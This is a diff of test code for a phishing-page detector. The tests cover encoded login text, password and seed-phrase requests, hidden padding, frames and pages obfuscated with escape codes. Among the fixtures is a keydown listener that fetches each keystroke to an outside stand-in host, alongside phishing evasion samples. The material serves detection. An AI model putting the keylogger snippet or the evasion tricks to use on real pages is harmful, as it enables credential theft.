@@ -225,7 +225,55 @@ describe('what a reader sees', () => {
     );
     expect(facts.text).toBe('LOG IN to PayPal Help E-mail');
     expect(facts.textLength).toBe(23);
-    expect(facts.encodedLetters).toBe(3);
+  });
+
+  test('encoded letters are counted where a page says what it asks for', () => {
+    expect(read('<h1>L&#79;G &#73;&#78;</h1>').encodedLetters).toBe(3);
+    expect(read('<title>&#80;ay</title><button>&#80;&#97;y</button>').encodedLetters).toBe(3);
+    expect(read('<label>&#80;&#97;ss<input type=password placeholder="&#80;&#97;ss"></label>').encodedLetters).toBe(4);
+    expect(read('<td>&#80;&#97;ss</td><td><input type=password></td>').encodedLetters).toBe(2);
+  });
+
+  test('encoded letters of a text, of a mail address and of hidden fields are nothing unusual', () => {
+    expect(read('<p>L&#79;G &#73;&#78;</p><p>Moss and more</p>').encodedLetters).toBe(0);
+    expect(read('<a href="mailto:&#105;&#110;">&#105;&#110;fo&#64;moss.example</a><input name=q>').encodedLetters).toBe(
+      0,
+    );
+    expect(read('<input type=hidden value="&#105;&#110;&#102;&#111;">').encodedLetters).toBe(0);
+  });
+
+  test('encoded letters are counted alike however the page is cut', () => {
+    const html = '<p>&#65;x</p><h1>L&#79;G &#73;&#78;</h1><label>&#80;&#97;ss</label><input placeholder="&#80;in">';
+    const counts = Array.from({ length: 12 }, (_, n) => {
+      const reader = createPageReader(new URL('https://a.example/'), (url) => url.hostname);
+      for (let at = 0; at < html.length; at += n + 1) reader.write(html.slice(at, at + n + 1));
+      return reader.finish().encodedLetters;
+    });
+    expect(new Set(counts)).toEqual(new Set([6]));
+  });
+
+  test('a field that is switched off asks for nothing where no script can switch it on', () => {
+    const field = '<form><input type=password disabled></form>';
+    expect(read(field).asks).toEqual([]);
+    expect(read(`${field}<script>run()</script>`).asks).toEqual(['password']);
+    expect(read(`${field}<a href="javascript:run()">Go</a>`).asks).toEqual(['password']);
+    expect(read(`<body onload="run()">${field}`).forms[0]?.asks).toEqual(['password']);
+  });
+
+  test('secret words are a wallet’s only where one is spoken of', () => {
+    const boxes = '<input type=text>'.repeat(14);
+    expect(read(`<h1>Find the secret phrase of our 12-word riddle</h1>${boxes}`).asks).toEqual([]);
+    expect(read(`<h1>Import your wallet by its 12-word secret phrase</h1>${boxes}`).asks).toEqual(['seed_phrase']);
+    expect(read('<p>Crossword</p><input name="word_3">').asks).toEqual([]);
+  });
+
+  test('files that a page takes and keys that it sends elsewhere are told', () => {
+    expect(read('<input type=file><input type=file hidden>').uploads).toBe(2);
+    const listener = (target: string) =>
+      `<script>document.addEventListener('keydown', (e) => { fetch('${target}' + e.key) })</script>`;
+    expect(read(listener('https://b.example/k?')).sendsKeys).toBe(true);
+    expect(read(listener('/suggest?q=')).sendsKeys).toBeUndefined();
+    expect(read(listener('https://api.shop.example/suggest?q=')).sendsKeys).toBeUndefined();
   });
 
   test('character codes of other letters are nothing unusual', () => {
@@ -486,6 +534,67 @@ describe('hostile pages', () => {
       expect(reader.leads.frames).toHaveLength(1);
     },
   );
+
+  test.each([
+    ['elements', '<div hidden>a</div>'.repeat(3_000)],
+    ['text', `<p hidden>${'old town bakery '.repeat(500)}</p>`],
+    ['a dialog that is closed', `<dialog>${'<p>old town bakery</p>'.repeat(30_000)}</dialog>`],
+  ])('hidden %s come behind what a person reads, and are no part of its length', (_, hidden) => {
+    const { text, textLength, outgrown } = read(`${hidden}<h1>Example Bank</h1><input type=password>`);
+    expect(text).toMatch(/^Example Bank/);
+    expect(textLength).toBe('ExampleBank'.length);
+    expect(outgrown).toBeUndefined();
+  });
+
+  test('a dialog that stands open is read', () => {
+    expect(read('<dialog open><h1>Example Bank</h1></dialog>').textLength).toBe('ExampleBank'.length);
+  });
+
+  test.each([
+    ['thousands', 5_000],
+    ['a million', 1_000_000],
+  ])('words around a field for a secret come before %s of letters of other text', (_, letters) => {
+    const filling = 'old town bakery '.repeat(letters / 16);
+    const { text } = read(`<p>${filling}</p><h3>Example Bank</h3><input type=password><p>Forgot your PIN?</p>`);
+    expect(text.slice(0, 1_200)).toContain('Example Bank');
+    expect(text.slice(0, 1_200)).toContain('Forgot your PIN?');
+  });
+
+  test.each(['<frameset><frame src="/in"></frameset>', '<p></p><frameset><frame src="/in"></frameset>'])(
+    'frames of %s make up the page',
+    (html) => {
+      const reader = createPageReader(new URL('https://a.example/'), siteOf);
+      reader.write(html);
+      reader.finish();
+      expect(reader.leads.frames.map(({ isFilling }) => isFilling)).toEqual([true]);
+    },
+  );
+
+  test.each(['<hr hidden>', '<body>', 'Welcome', '<input>', '<frame src="/in">'])(
+    'a frameset behind %s is none, as in a browser',
+    (before) => {
+      const reader = createPageReader(new URL('https://a.example/'), siteOf);
+      reader.write(
+        `<head><title>Owls</title></head>${before}${before === '<frame src="/in">' ? '' : '<frameset><frame src="/in"></frameset>'}`,
+      );
+      reader.finish();
+      expect(reader.leads.frames).toEqual([]);
+    },
+  );
+
+  test.each([
+    ['\\x', (code: string) => `"${code}"`],
+    ['\\u00', (code: string) => `"${code}"`],
+    ['%u00', (code: string) => `unescape("${code}")`],
+  ])('a page that is written in codes like %s takes the room of its letters', (prefix, written) => {
+    const page = `<p>${'old town bakery '.repeat(6_000)}</p><input type="password">`;
+    const codes = Array.from(page, (letter) => prefix + letter.charCodeAt(0).toString(16)).join('');
+    const reader = createPageReader(new URL('https://a.example/'), siteOf);
+    const html = `<script>document.body.innerHTML=${written(codes)}</script>`;
+    for (let at = 0; at < html.length; at += 16_384) reader.write(html.slice(at, at + 16_384));
+    reader.finish();
+    expect(reader.unfolded?.html).toContain('<input type="password">');
+  });
 
   test('frames that fill the window are kept whatever stands before them', () => {
     const reader = createPageReader(new URL('https://a.example/'), siteOf);
